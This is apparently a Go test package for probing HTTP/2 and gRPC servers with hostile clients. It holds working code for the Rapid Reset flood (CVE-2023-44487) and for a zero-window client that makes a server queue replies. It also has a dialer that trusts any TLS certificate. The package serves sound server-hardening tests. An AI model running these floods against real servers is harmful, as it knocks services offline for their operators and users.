// Package h2test speaks raw HTTP/2 to a server, for tests of what a hostile client can
// do that a well-behaved client library never does.
package h2test

import (
	"bytes"
	"crypto/tls"
	"errors"
	"net"
	"sync"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Result is what a RapidReset run saw.
type Result struct {
	Sent   int    // streams opened and reset before the connection failed or n was reached
	Closed bool   // the server closed the connection (or sent GOAWAY)
	GoAway string // the GOAWAY's error code, if one came
}

// RapidReset opens conn as an HTTP/2 client (conn may be a *tls.Conn that negotiated
// "h2") and, n times, sends a request's HEADERS for path (POST with a gRPC content type
// when grpc is true, GET otherwise) and at once an RST_STREAM(CANCEL) for it: CVE-2023-44487.
// It then sends a PING and waits for its ACK or for the connection to end, so that the
// result does not depend on timing: Closed is true when the server closed the connection
// or sent GOAWAY, false when it answered the PING (it took every reset without complaint).
func RapidReset(conn net.Conn, authority, path string, grpc bool, n int) (Result, error) {
	defer conn.Close()
	if _, err := conn.Write([]byte(http2.ClientPreface)); err != nil {
		return Result{}, err
	}
	var wmu sync.Mutex
	fr := http2.NewFramer(conn, conn)
	fr.MaxHeaderListSize = 1 << 20
	if err := fr.WriteSettings(); err != nil {
		return Result{}, err
	}

	var res Result
	done := make(chan struct{})
	var goAway string
	pingData := [8]byte{'a', 'r', 'b', 'i', 't', 'e', 'r', '!'}
	var ponged bool
	go func() {
		defer close(done)
		for {
			f, err := fr.ReadFrame()
			if err != nil {
				return
			}
			switch f := f.(type) {
			case *http2.SettingsFrame:
				if !f.IsAck() {
					wmu.Lock()
					fr.WriteSettingsAck() //nolint:errcheck // a failed write shows as a closed conn
					wmu.Unlock()
				}
			case *http2.GoAwayFrame:
				goAway = f.ErrCode.String()
				return
			case *http2.PingFrame:
				if f.IsAck() && f.Data == pingData {
					ponged = true
					return
				}
			}
		}
	}()

	var hbuf bytes.Buffer
	enc := hpack.NewEncoder(&hbuf)
	fields := [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", authority}, {":path", path}}
	if grpc {
		fields[0][1] = "POST"
		fields[1][1] = "http"
		fields = append(fields, [2]string{"content-type", "application/grpc"}, [2]string{"te", "trailers"})
	}
	for _, f := range fields {
		enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]}) //nolint:errcheck // into a buffer
	}
	block := hbuf.Bytes()

	var werr error
	for i := 0; i < n; i++ {
		select {
		case <-done:
			werr = errors.New("closed")
		default:
		}
		if werr != nil {
			break
		}
		id := uint32(2*i + 1)
		wmu.Lock()
		werr = fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true})
		if werr == nil {
			werr = fr.WriteRSTStream(id, http2.ErrCodeCancel)
		}
		wmu.Unlock()
		if werr != nil {
			break
		}
		res.Sent++
	}
	if werr == nil {
		wmu.Lock()
		werr = fr.WritePing(false, pingData)
		wmu.Unlock()
	}
	if werr != nil {
		conn.Close() // the server's side is gone: stop the reader
	}
	<-done
	res.GoAway = goAway
	res.Closed = !ponged
	return res, nil
}

// DialTLS dials addr with TLS offering only "h2", trusting any certificate (tests).
func DialTLS(addr string) (net.Conn, error) {
	c, err := tls.Dial("tcp", addr, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}}) //nolint:gosec // test servers
	if err != nil {
		return nil, err
	}
	if c.ConnectionState().NegotiatedProtocol != "h2" {
		c.Close()
		return nil, errors.New("the server did not negotiate h2")
	}
	return c, nil
}

// Unread opens conn as an HTTP/2 client that announces an initial stream window of 0,
// so that the server may send no reply data, and sends n gRPC requests for path, each
// carrying body (one serialized request message). It reads the server's frames (so that
// its writes never block on the socket) but never grants a stream window: every reply
// the server computes stays queued on its side. It returns once all n requests are
// written; the connection stays open until conn is closed. Frames the server sent are
// counted in the returned channel's value when conn is closed: the number of DATA
// bytes (which must be 0) and RST_STREAM frames.
func Unread(conn net.Conn, authority, path string, body []byte, n int) (<-chan UnreadResult, error) {
	if _, err := conn.Write([]byte(http2.ClientPreface)); err != nil {
		return nil, err
	}
	var wmu sync.Mutex
	fr := http2.NewFramer(conn, conn)
	fr.MaxHeaderListSize = 1 << 20
	if err := fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}); err != nil {
		return nil, err
	}
	out := make(chan UnreadResult, 1)
	go func() {
		var r UnreadResult
		defer func() { out <- r }()
		for {
			f, err := fr.ReadFrame()
			if err != nil {
				return
			}
			switch f := f.(type) {
			case *http2.SettingsFrame:
				if !f.IsAck() {
					wmu.Lock()
					fr.WriteSettingsAck() //nolint:errcheck // a failed write shows as a closed conn
					wmu.Unlock()
				}
			case *http2.DataFrame:
				r.DataBytes += len(f.Data())
			case *http2.RSTStreamFrame:
				r.Resets++
			case *http2.HeadersFrame:
				r.Headers++
			}
		}
	}()
	var hbuf bytes.Buffer
	enc := hpack.NewEncoder(&hbuf)
	for _, f := range [][2]string{{":method", "POST"}, {":scheme", "http"}, {":authority", authority}, {":path", path},
		{"content-type", "application/grpc"}, {"te", "trailers"}} {
		enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]}) //nolint:errcheck // into a buffer
	}
	block := hbuf.Bytes()
	msg := make([]byte, 5+len(body))
	msg[1], msg[2], msg[3], msg[4] = byte(len(body)>>24), byte(len(body)>>16), byte(len(body)>>8), byte(len(body))
	copy(msg[5:], body)
	for i := 0; i < n; i++ {
		id := uint32(2*i + 1)
		wmu.Lock()
		err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true})
		for rest := msg; err == nil && len(rest) > 0; {
			k := min(len(rest), 16384)
			err = fr.WriteData(id, k == len(rest), rest[:k])
			rest = rest[k:]
		}
		wmu.Unlock()
		if err != nil {
			return nil, err
		}
	}
	return out, nil
}

// UnreadResult is what the server sent an Unread client.
type UnreadResult struct {
	DataBytes int // DATA payload bytes (0: the server respected the window of 0)
	Headers   int // HEADERS frames (replies' headers, trailers, refusals)
	Resets    int // RST_STREAM frames
}
